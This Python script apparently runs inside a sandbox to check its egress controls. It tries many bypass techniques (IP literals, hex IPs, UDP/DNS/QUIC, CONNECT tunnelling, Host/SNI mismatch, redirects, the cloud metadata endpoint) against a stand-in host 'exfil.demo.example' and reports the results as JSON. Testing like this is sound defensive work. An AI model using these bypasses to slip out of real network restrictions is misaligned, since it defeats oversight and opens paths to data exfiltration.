"""Runs inside the sandbox: tries every way out, prints what happened as JSON. Standard library only."""

import json
import socket
import ssl
import subprocess
import sys

RESULTS = {}


def attempt(name):
    def run(function):
        try:
            RESULTS[name] = function()
        except Exception as error:
            RESULTS[name] = f"refused: {type(error).__name__}: {error}"
        return function

    return run


def tcp(host, port, family=socket.AF_INET, send=b"", wait=5.0):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(wait)
        client.connect((host, port))
        if send:
            client.sendall(send)
        data = client.recv(4096)
        return f"connected: {data!r}" if data else "refused: closed without a byte"


def tls(name, request, port=443, sni=None, alpn=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    with socket.create_connection((name, port), timeout=8) as raw:
        with context.wrap_socket(raw, server_hostname=sni or name) as client:
            client.sendall(request)
            answer = client.recv(4096)
            return answer.decode("latin-1").partition("\r\n")[0] or "refused: closed"


def udp(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.connect((host, port))
        client.send(data)
        return f"answered: {client.recv(512)!r}"


def curl(*arguments):
    done = subprocess.run(
        ["curl", "-sS", "-m", "10", *arguments], capture_output=True, text=True, check=False
    )
    return (done.stdout + done.stderr)[:600]


QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
ALLOWED, GIT, DENIED = "api.anthropic.com", "git.demo.example", "exfil.demo.example"


attempt("ipv4_literal")(lambda: tcp("1.1.1.1", 443, send=b"hello"))
attempt("ipv4_literal_http")(lambda: curl("http://1.1.1.1/"))
attempt("ipv4_hex")(lambda: curl("-k", "https://0x01010101/"))
attempt("ipv6_literal")(lambda: tcp("2606:4700:4700::1111", 443, socket.AF_INET6))
attempt("metadata")(lambda: curl("http://169.254.169.254/latest/meta-data/"))
attempt("udp_dns_public")(lambda: udp("8.8.8.8", 53, QUERY))
attempt("udp_other")(lambda: udp("8.8.8.8", 123, b"x" * 48))
attempt("quic")(lambda: udp("1.1.1.1", 443, b"\xc0" + b"\x00" * 1200))
attempt("tcp_dns_public")(lambda: tcp("8.8.8.8", 53, send=b"\x00" + bytes([len(QUERY)]) + QUERY))
attempt("raw_tcp_allowed_name")(lambda: tcp(socket.gethostbyname(ALLOWED), 22, send=b"SSH-2.0-x\r\n"))
attempt("raw_bytes_on_443")(lambda: tcp(socket.gethostbyname(ALLOWED), 443, send=b"SSH-2.0-x\r\n\r\n"))
attempt("connect")(
    lambda: tcp(
        socket.gethostbyname(ALLOWED),
        80,
        send=b"CONNECT exfil.demo.example:443 HTTP/1.1\r\nHost: exfil.demo.example:443\r\n\r\n",
    )
)
attempt("connect_in_tls")(
    lambda: tls(ALLOWED, b"CONNECT exfil.demo.example:443 HTTP/1.1\r\nHost: exfil.demo.example:443\r\n\r\n")
)
attempt("host_sni_mismatch")(
    lambda: tls(ALLOWED, b"GET / HTTP/1.1\r\nHost: exfil.demo.example\r\nConnection: close\r\n\r\n")
)
attempt("sni_mismatch")(
    lambda: tls(
        ALLOWED,
        b"GET / HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n",
        sni="exfil.demo.example",
    )
)
attempt("absolute_form")(
    lambda: tls(
        ALLOWED,
        b"GET https://exfil.demo.example/ HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n",
    )
)
attempt("foreign_host_plain")(
    lambda: curl("-H", "Host: exfil.demo.example", "http://git.demo.example/demo.git/info/refs")
)
attempt("denied_host")(lambda: curl("-w", "%{http_code}", "https://exfil.demo.example/?a=b"))
attempt("denied_path")(lambda: curl("-w", "%{http_code}", "https://git.demo.example/other.git/info/refs"))
attempt("redirect")(lambda: curl("-L", "-w", "%{http_code}", "https://git.demo.example/demo.git/leave"))
attempt("allowed")(
    lambda: curl(
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "https://git.demo.example/demo.git/info/refs?service=git-upload-pack",
    )
)
attempt("interfaces")(lambda: sorted(name for _, name in socket.if_nameindex()))
attempt("host_loopback")(lambda: tcp("127.0.0.1", int(sys.argv[1]) if len(sys.argv) > 1 else 4222))
print(json.dumps(RESULTS, indent=2))
